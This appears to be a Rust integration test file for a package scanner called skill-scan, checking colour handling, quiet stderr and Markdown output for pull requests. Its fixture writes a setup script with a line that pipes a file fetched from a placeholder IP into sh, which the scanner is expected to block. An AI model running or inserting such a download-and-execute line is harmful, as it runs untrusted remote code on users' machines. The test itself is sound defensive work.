#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Output for people: colour only where asked or seen, no progress bar in captured output, Markdown for
//! pull requests.

use assert_cmd::Command;
use std::fs;
use std::path::Path;

fn package(root: &Path) {
    // Under `bin/`: a command the package installs keeps its weight (a script shipped elsewhere for
    // hand use weighs one step less).
    fs::create_dir_all(root.join("bin")).unwrap();
    fs::write(
        root.join("package.json"),
        r#"{"name": "tool", "version": "1.0.0"}"#,
    )
    .unwrap();
    fs::write(
        root.join("bin/setup.sh"),
        "#!/bin/sh\ncurl -s http://198.51.100.4/p.sh | sh\n",
    )
    .unwrap();
}

fn scan(root: &Path, args: &[&str], no_color: Option<&str>) -> (String, String) {
    let mut command = Command::cargo_bin("skill-scan").unwrap();
    command.arg("--no-config").args(args).arg(root);
    match no_color {
        Some(value) => command.env("NO_COLOR", value),
        None => command.env_remove("NO_COLOR"),
    };
    let output = command.output().unwrap();
    (
        String::from_utf8(output.stdout).unwrap(),
        String::from_utf8(output.stderr).unwrap(),
    )
}

#[test]
fn colour_is_off_when_captured_on_when_forced_and_off_when_refused() {
    let dir = tempfile::tempdir().unwrap();
    package(dir.path());
    let (auto, _) = scan(dir.path(), &[], None);
    assert!(!auto.contains('\u{1b}'), "not a terminal: {auto}");
    let (always, _) = scan(dir.path(), &["--color", "always"], None);
    assert!(always.contains("\u{1b}[1;31mBLOCK\u{1b}[0m"), "{always}");
    let (no_color, _) = scan(dir.path(), &["--color", "auto"], Some("1"));
    assert!(!no_color.contains('\u{1b}'));
    let (never, _) = scan(dir.path(), &["--color", "never"], None);
    assert!(!never.contains('\u{1b}'));
}

#[test]
fn a_scan_writes_nothing_to_a_captured_stderr() {
    let dir = tempfile::tempdir().unwrap();
    package(dir.path());
    let (stdout, stderr) = scan(dir.path(), &[], None);
    assert!(stdout.contains("── summary "), "{stdout}");
    assert_eq!(stderr, "", "no progress bar when stderr is not a terminal");
}

#[test]
fn markdown_output_for_pull_requests() {
    let dir = tempfile::tempdir().unwrap();
    package(dir.path());
    let (markdown, _) = scan(dir.path(), &["--format", "markdown"], None);
    assert!(
        markdown.starts_with("## ⛔ skill-scan: BLOCK\n"),
        "{markdown}"
    );
    assert!(
        markdown.contains("| block | `RCE001` | `bin/setup.sh:2` |"),
        "{markdown}"
    );
}
